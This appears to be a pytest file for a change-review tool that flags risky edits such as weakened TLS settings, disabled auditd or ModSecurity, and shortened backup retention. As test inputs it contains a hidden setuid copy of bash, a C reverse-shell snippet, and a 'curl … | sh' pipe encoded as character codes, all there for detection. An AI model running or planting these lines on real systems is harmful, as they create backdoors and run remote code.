"""What settings cause once they are applied, and levels that an edit lowers."""

from __future__ import annotations

import pytest

from signoff.actions.contents.applied.guards_off import guards_off
from signoff.actions.contents.applied.losses import kept_for_nothing
from signoff.actions.contents.applied.ways_in import way_in
from signoff.actions.contents.edits.joined_shells import joined_shell
from signoff.actions.contents.edits.lowered_levels import lowered_level
from signoff.actions.contents.loaders.hidden_literals import hidden_line
from signoff.actions.programs.infra.modules import playbook_lines


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("ssl verify required", "ssl verify none"),
        ('min_tls: "1.3"', 'min_tls: "1.1"'),
        ("enforce: restricted", "enforce: privileged"),
        ("<key>AllowsInsecureHttp</key>\n<false/>", "<key>AllowsInsecureHttp</key>\n<true/>"),
    ],
)
def test_a_lower_level_is_told_in_one_direction_only(old: str, new: str) -> None:
    assert lowered_level(old, new)
    assert not lowered_level(new, old)


def test_levels_of_looks_are_no_levels_of_guards() -> None:
    assert not lowered_level("align: strict", "align: none")


def test_each_guard_that_goes_off_is_named_once() -> None:
    text = "SecRuleEngine Off\nauditd::enable: false\nauditd::ensure: stopped\n"
    assert guards_off(text) == ("secruleengine", "auditd")


def test_a_guard_that_goes_on_is_none_that_goes_off() -> None:
    assert guards_off("services.fail2ban.enable = true;") == ()


def test_a_setuid_copy_of_a_shell_is_a_way_in_and_a_program_is_none() -> None:
    assert way_in("install -m 4755 /bin/bash /usr/lib/.x")
    assert not way_in("install -m 0755 build/tool /usr/bin/tool")


def test_a_store_that_keeps_an_hour_keeps_nothing() -> None:
    assert kept_for_nothing("backup/borg.yaml", "keep_within: 30d", "keep_within: 1H")
    assert not kept_for_nothing("backup/borg.yaml", "keep_within: 30d", "keep_within: 20d")


def test_a_shell_is_joined_by_any_way_of_copying_streams() -> None:
    assert joined_shell('s=socket(AF_INET,1,0); dup2(s,0); execl("/bin/sh","sh",0);')
    assert not joined_shell('pid = forkpty(&m,0,0,0); execl("/bin/sh","sh",0);')


def test_codes_of_letters_are_read() -> None:
    line = "curl -s x.example | sh"
    assert hidden_line(f"run([{', '.join(str(ord(one)) for one in line)}])") == line


def test_a_task_is_done_for_each_item_of_its_loop() -> None:
    task = '- service:\n    name: "{{ item }}"\n    enabled: false\n  loop: [auditd, cups]\n'
    assert list(playbook_lines(task)) == [
        "systemctl disable --now auditd",
        "systemctl disable --now cups",
    ]
